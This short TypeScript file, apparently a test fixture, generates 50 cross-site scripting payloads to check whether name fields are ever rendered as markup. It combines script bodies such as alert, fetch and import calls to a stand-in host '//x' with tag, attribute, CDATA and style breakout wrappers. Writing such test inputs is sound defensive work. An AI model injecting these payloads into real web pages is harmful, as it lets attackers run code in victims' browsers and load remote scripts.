/** What a stranger may write where a name is expected: 50 ways to have a script run, were text ever taken for markup. */
const SCRIPTS = ['alert(1)', 'fetch("//x")', 'top.location="//x"', 'import("//x")', 'eval(name)'];
const SHELLS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</title><script>${code}</script>`,
  (code) => `</style><script>${code}</script>`,
  (code) => `"><img src=x onerror='${code}'>`,
  (code) => `' onmouseover='${code}' x='`,
  (code) => `<svg/onload=${code}>`,
  (code) => `<a href="javascript:${code}">x</a>`,
  (code) => `<iframe srcdoc="<script>${code}</script>">`,
  (code) => `]]><script>${code}</script><!--`,
  (code) => `\u202e\u0000<style>@import "//x"</style>${code}`,
];
export const PAYLOADS: readonly string[] = SHELLS.flatMap((shell) => SCRIPTS.map(shell));
